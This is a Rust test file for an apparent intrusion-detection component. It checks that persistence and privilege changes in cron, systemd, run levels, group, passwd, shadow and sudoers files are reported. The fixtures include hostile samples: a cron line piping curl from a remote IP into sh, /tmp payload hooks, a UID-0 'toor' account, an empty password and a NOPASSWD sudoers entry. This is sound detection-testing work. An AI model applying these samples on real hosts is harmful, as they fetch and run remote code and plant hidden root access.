//! What is told of tasks, start-up hooks and accounts.

use super::{fake::Machine, shown};

#[track_caller]
fn check(files: &[(&str, &str)], path: &str, content: &str, fields: &[&str], expect: &[&str]) {
    let mut machine = Machine::new(files);
    assert_eq!(shown(&machine.write(path, content), fields), expect);
}

#[test]
fn tasks() {
    let lines = &["FileKind", "TargetUser", "AddedLines", "RemovedLines"];
    check(
        &[("/etc/cron.d/x", "1 1 * * * root /bin/a\n")],
        "/etc/cron.d/x",
        "# new\n* * * * * root curl http://203.0.113.9|sh\n",
        lines,
        &["/etc/cron.d/x write FileKind=cron \
            AddedLines=* * * * * root curl http://203.0.113.9|sh RemovedLines=1 1 * * * root /bin/a"],
    );
    check(
        &[],
        "/etc/systemd/system/x.timer",
        "[Timer]\nOnCalendar=hourly\n",
        lines,
        &["/etc/systemd/system/x.timer write FileKind=timer \
            AddedLines=OnCalendar=hourly, [Timer]"],
    );
    check(
        &[],
        "/var/spool/cron/crontabs/ann",
        "@reboot /tmp/x\n",
        lines,
        &[
            "/var/spool/cron/crontabs/ann write FileKind=cron TargetUser=ann \
            AddedLines=@reboot /tmp/x",
        ],
    );
}

#[test]
fn crontab_writes_a_temporary_file_and_renames_it() {
    let mut machine = Machine::new(&[("/var/spool/cron/crontabs/.keep", "")]);
    let tmp = "/var/spool/cron/crontabs/tmp.Xy12";
    assert!(machine.write(tmp, "* * * * * /tmp/x\n").is_empty());
    let told = machine.rename(tmp, "/var/spool/cron/crontabs/ann");
    assert_eq!(
        shown(&told, &["AddedLines"]),
        ["/var/spool/cron/crontabs/ann rename AddedLines=* * * * * /tmp/x"]
    );
}

#[test]
fn startup() {
    let fields = &[
        "FileKind",
        "RunLevels",
        "RunLevelCount",
        "Payloads",
        "LinkTarget",
    ];
    check(
        &[("/etc/rc1.d/README", "")],
        "/etc/rc1.d/S90x",
        "#!/bin/sh\n/tmp/.x &\n",
        fields,
        &["/etc/rc1.d/S90x write FileKind=run-level-link RunLevels=1 RunLevelCount=1"],
    );
    check(
        &[],
        "/etc/init.d/x",
        "#!/bin/sh\n# Default-Start: 1 S\n# nothing\n",
        fields,
        &["/etc/init.d/x write FileKind=init-script RunLevels=1, S RunLevelCount=0"],
    );
    check(
        &[],
        "/etc/systemd/system/x.service",
        "[Service]\nExecStart=/tmp/x\n[Install]\nWantedBy=rescue.target\n",
        fields,
        &[
            "/etc/systemd/system/x.service write FileKind=unit RunLevels=rescue.target \
            RunLevelCount=0 Payloads=/tmp/x",
        ],
    );
}

/// XorDDoS and its kin link one program into every run level.
#[test]
fn one_name_in_many_run_levels() {
    let mut machine = Machine::new(&[]);
    let mut last = Vec::new();
    for level in ["1", "2", "3", "5"] {
        let path = format!("/etc/rc{level}.d/S9{level}selinux");
        last = machine.symlink("../init.d/selinux", &path);
    }
    assert_eq!(
        shown(&last, &["RunLevelsTogether", "RunLevelCount", "Payloads"]),
        [
            "/etc/rc5.d/S95selinux make RunLevelsTogether=1, 2, 3, 5 RunLevelCount=4 \
            Payloads=../init.d/selinux"
        ]
    );
    // Another name, and the same one long after, have nothing to do with it.
    let other = machine.symlink("../init.d/ssh", "/etc/rc2.d/S01ssh");
    assert_eq!(
        shown(&other, &["RunLevelCount"]),
        ["/etc/rc2.d/S01ssh make RunLevelCount=1"]
    );
    machine.later(61);
    let late = machine.symlink("../init.d/selinux", "/etc/rc4.d/S90selinux");
    assert_eq!(
        shown(&late, &["RunLevelCount"]),
        ["/etc/rc4.d/S90selinux make RunLevelCount=1"]
    );
}

#[test]
fn groups() {
    let fields = &["AddedMembers", "RemovedMembers", "PrivilegedMembers"];
    let old = "sudo:x:27:ann\nvideo:x:44:\nops:x:50:\n";
    check(
        &[("/etc/group", old)],
        "/etc/group",
        "sudo:x:27:eve\nvideo:x:44:eve\nops:x:50:\n",
        fields,
        &[
            "/etc/group write PrivilegedMembers=sudo:eve AddedMembers=sudo:eve, video:eve \
            RemovedMembers=sudo:ann",
        ],
    );
    // A group that sudoers names is as good as sudo.
    check(
        &[
            ("/etc/group", old),
            ("/etc/sudoers.d/ops", "%ops ALL=(ALL) ALL\n"),
        ],
        "/etc/group",
        "sudo:x:27:ann\nvideo:x:44:\nops:x:50:eve\n",
        fields,
        &["/etc/group write PrivilegedMembers=ops:eve AddedMembers=ops:eve"],
    );
    // Made without members: nobody became anything.
    let all = format!("{old}docker:x:99:\n");
    check(
        &[("/etc/group", old)],
        "/etc/group",
        &all,
        fields,
        &["/etc/group write"],
    );
}

#[test]
fn users() {
    let fields = &[
        "AddedUsers",
        "ChangedUsers",
        "RootTwins",
        "PrivilegedMembers",
        "RemovedUsers",
    ];
    check(
        &[("/etc/group", "sudo:x:27:\n")],
        "/etc/passwd",
        "root:x:0:0::/root:/bin/sh\nann:x:1000:27::/home/ann:/bin/sh\ntoor:x:00:0::/:/bin/sh\n",
        fields,
        &[
            "/etc/passwd write AddedUsers=toor ChangedUsers=ann RootTwins=toor \
            PrivilegedMembers=sudo:ann",
        ],
    );
    check(
        &[("/etc/shadow", "ann:!:1\nbob:!:1\nroot:*:1\n")],
        "/etc/shadow",
        "ann:$6$s$h:2\nbob::2\nroot:*:9\n",
        &["PasswordsSet", "PasswordsEmpty"],
        &["/etc/shadow write PasswordsSet=ann, bob PasswordsEmpty=bob"],
    );
}

#[test]
fn sudoers() {
    check(
        &[("/etc/sudoers", "root ALL=(ALL) ALL\n")],
        "/etc/sudoers",
        "root ALL=(ALL) ALL\neve  ALL=(ALL) \\\n NOPASSWD: ALL\n",
        &["AddedLines", "FileKind"],
        &["/etc/sudoers write FileKind=sudoers AddedLines=eve ALL=(ALL) NOPASSWD: ALL"],
    );
}
